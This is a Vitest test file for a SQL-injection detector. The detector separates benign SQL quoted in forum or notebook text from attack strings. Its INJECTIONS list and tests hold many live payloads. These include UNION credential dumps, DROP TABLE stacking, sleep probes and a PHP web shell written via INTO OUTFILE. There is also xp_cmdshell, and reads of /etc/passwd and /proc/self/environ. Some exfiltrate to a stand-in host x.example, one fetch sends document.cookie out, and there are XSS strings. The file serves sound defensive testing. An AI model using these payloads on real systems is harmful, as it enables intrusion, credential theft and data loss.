import { describe, expect, it } from 'vitest';
import { isWholeSqlStatement, maskQuotedCode } from '../../src/model/quoted-code.js';

// Statements as the tech-discussion family quotes them (BI query fields, gists, forum titles) and as people paste them.
const STATEMENTS = [
  "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public';",
  'SELECT count(*) FROM orders',
  "SELECT $__timeGroupAlias(created_at,'1h'), count(*) AS \"orders\" FROM orders WHERE $__timeFilter(created_at) AND status <> 'cancelled' GROUP BY 1 ORDER BY 1",
  "SELECT o.id, o.total, c.email\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.created_at >= NOW() - INTERVAL '7 days'\nORDER BY o.total DESC\nLIMIT 20;",
  "SELECT name FROM products WHERE name LIKE '%shoe%' ORDER BY id DESC LIMIT 10;",
  "SELECT date_trunc('day', created_at) AS d, sum(total) FROM orders GROUP BY 1 ORDER BY 1;",
  "UPDATE users SET status = 'paid' WHERE id = 42;",
  "EXPLAIN ANALYZE SELECT * FROM events WHERE country IN ('DE', 'FR');",
  'WITH ranked AS (SELECT *, row_number() OVER (PARTITION BY team_id ORDER BY score DESC) AS rn FROM results) SELECT * FROM ranked WHERE rn <= 3;',
  "SELECT name FROM events WHERE status = 'trial'\nUNION ALL\nSELECT name FROM archived_events WHERE status = 'trial';",
];

// Injections, and statements written to pass for one: each breaks out of the application's literal or
// needs something no quoted statement does.
const INJECTIONS = [
  "1' UNION SELECT username, password FROM users--",
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  'SELECT * FROM users WHERE id = 1 OR 1=1',
  "SELECT * FROM t WHERE a = 'x' OR 'a'='a'",
  "SELECT * FROM t WHERE a = 'x'' OR ''1'='1'",
  // Literal and code turned around: its literal holds the SQL the application would run.
  "SELECT 1 WHERE a = ' UNION SELECT pw FROM users WHERE b = '",
  // A quote straight after a name closes the application's literal.
  "SELECT a' UNION SELECT pw FROM users WHERE c LIKE 'b",
  "SELECT x FROM t WHERE a = 'x' UNION SELECT password FROM users WHERE 'b' LIKE 'b'",
  'select pg_sleep(5)',
  "SELECT IF(1=1, SLEEP(5), 0)",
  'SELECT * FROM users; DROP TABLE users',
  "SELECT * FROM users WHERE name = 'admin'--",
  "SELECT * FROM users WHERE name = 'admin' #",
  'select @@version',
  "SELECT load_file('/etc/passwd')",
  "SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'",
  'select user()',
  'SELECT CHAR(65)',
  'SELECT 0x61646d696e',
  'SELECT * FROM users UNION SELECT NULL, NULL',
  "EXEC xp_cmdshell 'whoami'",
  'SELECT 1 /*!50000UNION*/ SELECT 2',
  // Whole statements as exploits send them to a SQL endpoint: out of the database, or at credentials.
  "INSERT INTO FUNCTION url('http://x.example/k', 'CSV', 'u String, p String') SELECT name, storage FROM system.users",
  "SELECT * FROM file('/proc/self/environ', 'RawBLOB', 'x String')",
  "SELECT * FROM remote('x.example:9000', system.one)",
  'SELECT user_login,user_pass FROM wp_users WHERE ID=1',
  'SELECT user, authentication_string FROM mysql.user',
  'SELECT usename, passwd FROM pg_shadow',
  'SELECT email, password FROM users',
  // A script glued into a statement (session 33, nb33: a %%sql cell of the shape carriers): a browser's objects are no columns.
  "SELECT site, count(*) AS n FROM visits GROUP BY site ORDER BY n DESCfetch('https://x.example/c?'+document.cookie)",
  "SELECT id FROM t WHERE a = 1 AND localStorage.getItem('token') IS NOT NULL",
  // libinjection's fragments: a statement the application's own would continue, unbalanced, a number glued to a name.
  'select 1 from foo where',
  'select sin(1),2 from bar where',
  'select -1,sin(((id)),2 from bar',
  'select (((((1,2,3,4)))) from bar',
  'SELECT 1 from information_schema 9.e.table_name',
  'create table myfile (input TEXT);',
  "SELECT id FROM users WHERE name = 'a' AND",
];

describe('isWholeSqlStatement', () => {
  it('takes a statement quoted whole for a statement', () => {
    for (const s of STATEMENTS) expect(isWholeSqlStatement(s), s).toBe(true);
  });

  it('never takes an injection or a statement turned around for one', () => {
    for (const s of INJECTIONS) expect(isWholeSqlStatement(s), s).toBe(false);
  });

  it('reads a statement under comment lines of plain words (blind benign set 17, judge/3, read)', () => {
    expect(isWholeSqlStatement("-- customers who never ordered\nSELECT c.customer_id, c.name FROM customers c\nLEFT JOIN orders o ON o.customer_id = c.customer_id\nWHERE o.order_id IS NULL\nUNION ALL\nSELECT 0, 'total: ' || COUNT(*) FROM customers;")).toBe(true);
    expect(isWholeSqlStatement('-- Q3: revenue per region (net)\n-- v2\nSELECT region, sum(net) FROM orders GROUP BY region')).toBe(true);
    // Markup, a quote or a template in the comment, a comment after code, or an injection after the comments: refused.
    expect(isWholeSqlStatement('-- <script>alert(1)</script>\nSELECT a FROM t')).toBe(false);
    expect(isWholeSqlStatement("-- it's\nSELECT a FROM t")).toBe(false);
    expect(isWholeSqlStatement('-- {{config}}\nSELECT a FROM t')).toBe(false);
    expect(isWholeSqlStatement("x' --\nSELECT a FROM t")).toBe(false);
    expect(isWholeSqlStatement("-- a\nSELECT a FROM t WHERE b = '' OR 1=1 --")).toBe(false);
    expect(isWholeSqlStatement('-- a\nSELECT a FROM t; DROP TABLE t')).toBe(false);
  });

  it('refuses a number compared with a sub-select appended to a statement (session 33 carriers)', () => {
    expect(isWholeSqlStatement('SELECT count(*) FROM events GROUP BY day AND 1=(SELECT COUNT(*) FROM information_schema.tables)')).toBe(false);
    expect(isWholeSqlStatement("SELECT id FROM orders WHERE status = 'paid' AND 0 < ( select count(*) from users)")).toBe(false);
    expect(isWholeSqlStatement('SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE region = 4)')).toBe(true);
    expect(isWholeSqlStatement('SELECT day, count(*) FROM events GROUP BY day HAVING count(*) > (SELECT 10 FROM limits)')).toBe(true);
  });

  it("reads a notebook cell's statement under its SQL magic line, and not what the magic line or the statement smuggles", () => {
    for (const s of ['%%sql\nSELECT country, count(*) FROM customers GROUP BY country ORDER BY 2 DESC LIMIT 10', "%%sql postgresql://analyst@db/shop\nSELECT id FROM orders WHERE status = 'paid'", '%%bigquery df\nSELECT name FROM events', '%%sql SELECT country FROM customers'])
      expect(isWholeSqlStatement(s), s).toBe(true);
    for (const s of ["%%sql ' OR 1=1 --\nSELECT id FROM orders", '%%sql\nSELECT * FROM users WHERE id = 1 OR 1=1', '%sql\nselect pg_sleep(5) from x', '%%sql x SELECT 1 FROM t', '%%python\nSELECT id FROM orders'])
      expect(isWholeSqlStatement(s), s).toBe(false);
  });

  it('needs a statement from the first word: prose around SQL is not one', () => {
    for (const s of ['why is SELECT count(*) FROM orders slow', "(SELECT … WHERE … LIKE '%검색어%')", 'union select mattress', '-1 SELECT 1', 'select tables', 'SELECT 1']) expect(isWholeSqlStatement(s), s).toBe(false);
  });
});

describe('maskQuotedCode', () => {
  it('takes a quoted statement out of prose and leaves the prose', () => {
    expect(maskQuotedCode('Quick question: does `SELECT count(*) FROM orders` lock the table?')).toBe('Quick question: does   lock the table?');
    expect(maskQuotedCode("fwiw we run ```SELECT table_name FROM information_schema.tables WHERE table_schema = 'app';```")).toBe('fwiw we run  ');
    expect(maskQuotedCode("Why?\n\n```sql\nSELECT id FROM users WHERE email = 'a@b.example';\n```\n\nThanks")).toBe('Why?\n\n \n\nThanks');
    expect(maskQuotedCode('<pre><code class="language-sql">SELECT count(*) FROM orders</code></pre>')).toBe('<pre> </pre>');
    // The whitespace decoder's form folds the fence's line break: the language tag stands before the code.
    expect(maskQuotedCode("```sql SELECT id FROM users WHERE email = 'a@b.example'; ```")).toBe(' ');
  });

  it('keeps a code span that holds an injection, markup or a command', () => {
    for (const s of ["see `' OR 1=1 --`", 'try `<script>alert(1)</script>`', 'run `cat /etc/passwd`', "```\nSELECT * FROM users WHERE id = 1 OR 1=1\n```"]) {
      expect(maskQuotedCode(s), s).toBe(s);
    }
  });

  it('takes a sketched statement (its clauses elided) out of a parenthesized aside or a code span, and keeps one that can run', () => {
    expect(maskQuotedCode("[질문] 쿼리가 너무 느려요 (SELECT … WHERE … LIKE '%검색어%')")).toBe('[질문] 쿼리가 너무 느려요  ');
    expect(maskQuotedCode('how do I speed up `UPDATE ... SET ... WHERE id IN (...)` on big tables?')).toBe('how do I speed up   on big tables?');
    // A literal holding only an elision is a placeholder: it goes, its quotes with it.
    expect(maskQuotedCode("인덱스를 걸었는데도 LIKE '%…%' 검색은 풀스캔이네요")).toBe('인덱스를 걸었는데도 LIKE   검색은 풀스캔이네요');
    expect(maskQuotedCode('set it to "..." and retry')).toBe('set it to   and retry');
    for (const s of [
      // An elision standing for an alias, not a clause's operand: MySQL runs it.
      'x (SELECT password … FROM users)',
      // A tautology, a comment, a stacked statement, a time function, a literal holding SQL.
      "x (SELECT … FROM users WHERE ''='')",
      '1 (SELECT … FROM users WHERE 1=1)',
      "x (SELECT … FROM users -- )",
      'x (SELECT … FROM t; DROP TABLE users)',
      'x (SELECT … WHERE sleep(5))',
      "x (SELECT … WHERE a = ' union select 1')",
      // No elision: a statement judged as before.
      "x (SELECT name FROM users WHERE a = 'b')",
      // A quote that only looks like an elided literal's: glued to a word, or holding more than the elision.
      "x'...' or '1'='1",
      "a LIKE '%...x' or 1=1",
    ]) {
      expect(maskQuotedCode(s), s).toBe(s);
    }
  });

  it("removes the block editor's delimiters and nothing inside them", () => {
    expect(maskQuotedCode('<!-- wp:paragraph -->\n<p>New arrivals every Monday.</p>\n<!-- /wp:paragraph -->')).toBe('\n<p>New arrivals every Monday.</p>\n');
    expect(maskQuotedCode('<!-- wp:heading {"level":2} --><h2>x</h2><!-- /wp:heading -->')).toBe('<h2>x</h2>');
    expect(maskQuotedCode('<!-- wp:paragraph --><p><img src=x onerror=alert(1)></p><!-- /wp:paragraph -->')).toBe('<p><img src=x onerror=alert(1)></p>');
    // A comment that only looks like one stays: markup or a comment's end inside is no block attribute.
    expect(maskQuotedCode('<!-- wp:html {"a":"<script>"} -->')).toBe('<!-- wp:html {"a":"<script>"} -->');
    expect(maskQuotedCode('<!-- wp:x {"a":"--><script>alert(1)</script>"} -->')).toContain('<script>alert(1)</script>');
  });

  it('returns the same string when there is nothing to take out', () => {
    const s = 'plain words with no code';
    expect(maskQuotedCode(s)).toBe(s);
  });
});
